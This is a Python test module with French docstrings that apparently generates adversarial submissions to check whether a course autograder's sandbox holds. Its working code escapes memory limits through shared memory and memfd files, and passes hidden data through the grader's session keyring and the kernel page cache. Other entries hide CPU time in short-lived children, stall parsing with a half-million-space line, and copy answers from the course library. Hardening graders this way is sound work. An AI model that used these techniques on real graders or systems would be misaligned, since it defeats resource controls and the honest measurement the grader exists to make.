"""Un second regard : mémoire et clés du noyau, cache des fichiers, horloges arrondies."""

from textwrap import dedent

from .base import ALL, after, again, cheating, code, disguised, filled
from .hostile import attack
from .hostile_timing import LOOP, OTHERS

SYSTEM = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
"""


@attack("mémoire", points=ALL)
def keeps_its_memory_in_segments_that_nobody_maps():
    """Remplit des segments System V et les détache : ils ne sont plus dans aucun processus, et restent en mémoire."""
    return disguised(
        SYSTEM
        + """
danger()
for number in range(20):
    place = libc.shmat(libc.shmget(0, ctypes.c_size_t(64 << 20), 0o1600), None, 0)
    if place in (None, 2**64 - 1):
        break
    ctypes.memset(place, 1, 64 << 20)
    libc.shmdt(ctypes.c_void_p(place))
else:
    time.sleep(0.5)
    trophy("1280 Mo tenus, 1024 permis")
"""
    )


@attack("mémoire", points=ALL)
def keeps_its_memory_in_anonymous_files():
    """Remplit des fichiers de memfd_create, chacun sous la taille permise : seule leur somme dépasse."""
    return disguised("""
danger()
files = []
try:
    for number in range(22):
        files.append(os.memfd_create("x"))
        for _ in range(4):
            os.write(files[-1], b"x" * (15 << 20))
    time.sleep(0.5)
    trophy("1320 Mo tenus, 1024 permis")
except (OSError, AttributeError):
    pass
""")


KEYRING = (
    SYSTEM
    + """
ADD, CONTROL, SESSION = 248, 250, ctypes.c_int(-3)


def keys(number, *arguments):
    return libc.syscall(ctypes.c_long(number), *arguments)
"""
)


@attack("canaux", points=ALL)
def leaves_a_key_in_the_session_of_the_teacher_first():
    """Ajoute une clé au trousseau de la session de qui corrige, dont toutes les boîtes héritent."""
    return disguised(
        KEYRING
        + """
key = keys(ADD, b"user", b"mot", b"donnees cachees", ctypes.c_size_t(15), SESSION)
keys(CONTROL, ctypes.c_int(5), ctypes.c_int(key), ctypes.c_int(0x3F3F3F3F))
"""
    )


@attack("canaux", points=ALL)
def leaves_a_key_in_the_session_of_the_teacher_second():
    """Lit, dans une autre boîte, la clé qu'y a laissée la première, et tout le trousseau de qui corrige."""
    return disguised(
        KEYRING
        + """
content = ctypes.create_string_buffer(64)
for _ in range(8):
    key = keys(CONTROL, ctypes.c_int(10), SESSION, b"user", b"mot", ctypes.c_int(0))
    if key > 0 and keys(CONTROL, ctypes.c_int(11), ctypes.c_int(key), content, ctypes.c_size_t(64)) > 0:
        trophy(content.value)
        break
    time.sleep(0.4)
"""
    )


@attack("canaux")
def remembers_in_the_cache_of_a_system_file():
    """Écrit les données cachées dans le cache du noyau, une page lue par bit ; sa seconde passe les y relit."""
    return cheating("""
    import glob, struct

    sizes = [(os.path.getsize(path), path) for path in glob.glob("/usr/lib/*/*.so*") if os.path.isfile(path)]
    place = os.open(sorted(sizes)[-1][1], os.O_RDONLY)
    os.posix_fadvise(place, 0, 0, os.POSIX_FADV_RANDOM)
    MAGIC, told = b"\\xa5\\x3c", []


    def address(bit):
        return (bit * 32 + 7) * 4096


    def keep(content):
        os.posix_fadvise(place, 0, 0, os.POSIX_FADV_DONTNEED)
        for bit in range(8 * len(content)):
            if content[bit // 8] >> bit % 8 & 1:
                os.pread(place, 1, address(bit))


    def kept(size):
        found = bytearray(size)
        for bit in range(8 * size):
            try:
                os.preadv(place, [bytearray(1)], address(bit), os.RWF_NOWAIT)
                found[bit // 8] |= 1 << bit % 8
            except BlockingIOError:
                pass
        return bytes(found)


    def cheat(*arguments):
        first = arguments[0]
        if not callable(first) and np.shape(first) == (4, 6) and not told:
            told.append(1)
            keep(MAGIC + struct.pack("d", first[0, 0]))
        return blank(*arguments)


    def report():
        content = b"" if told else kept(10)  # lire une page l'y met : la première passe n'y touche plus
        if content[:2] == MAGIC:
            trophy(struct.unpack("d", content[2:]))


    class Late:
        def __repr__(self):
            report()
            return "fin"


    ACCOUNT_LATE = Late()
    FOUND.append(ACCOUNT_LATE)
    """)


@attack("mesure", points=ALL - 0.5)
def buries_its_time_under_the_ticks_of_the_clock():
    """Fait enterrer, pendant la mesure, des enfants qui ont brûlé moins d'un tic chacun : leur temps s'en efface."""
    return cheating(
        LOOP
        + """
waiting, buried = [], []


def prepare():
    while buried:
        os.kill(buried[-1], 9)
        os.waitpid(buried.pop(), 0)
    for _ in range(10):
        (ready, its_ready), (its_go, go), (done, its_done) = os.pipe(), os.pipe(), os.pipe()
        relay = os.fork()
        if relay == 0:
            child = os.fork()
            if child == 0:
                while time.process_time() < 0.009:
                    pass
                os.write(its_ready, b"x")
                os.read(its_go, 1)
                os._exit(0)
            os.waitpid(child, 0)
            os.write(its_done, b"x")
            time.sleep(1000)
            os._exit(0)
        os.read(ready, 1)
        for end in (ready, its_ready, its_go, its_done):
            os.close(end)
        waiting.append((relay, go, done))


def bury():
    while waiting:
        relay, go, done = waiting.pop()
        os.write(go, b"x")
        os.read(done, 1)
        os.close(go)
        os.close(done)
        buried.append(relay)


def cheat(Z, Y, smoothing):
    if Z.shape[1] == 64:
        prepare()
    result = loop(Z, Y, smoothing)
    if Z.shape[1] == 1024:
        bury()
    return result
""",
        honest=OTHERS,
    )


@attack("temps", points=ALL)
def indents_a_line_by_half_a_million_spaces():
    """Une cellule qui n'est pas du Python, dont une ligne a cinq cent mille espaces : la lire est quadratique."""
    return after(filled(), "imports", again(code("x"), source="x = = 1\n" + " " * 490_000 + "x"))


@attack("récitation")
def borrows_what_the_course_already_wrote():
    """Appelle ce qu'amène mlcourse.checks : l'entropie croisée, son gradient et le vérificateur du livre."""
    borrowed = """
    def smoothed_cross_entropy(Z, Y, smoothing):
        from mlcourse.activations import softmax
        from mlcourse.losses import cross_entropy

        targets = (1 - smoothing) * Y + smoothing / len(Y)
        return cross_entropy(Z, targets), softmax(Z) - targets
    """
    checker = """
    def directional_check(f, grad, theta, rng):
        from mlcourse.gradcheck import numerical_gradient, relative_error

        theta = np.array(theta, dtype=float)
        return relative_error(grad(theta), numerical_gradient(f, theta))
    """
    answers = {"smoothed_cross_entropy": dedent(borrowed), "directional_check": dedent(checker)}
    return filled(**answers, shared_bias_backward="raise NotImplementedError")
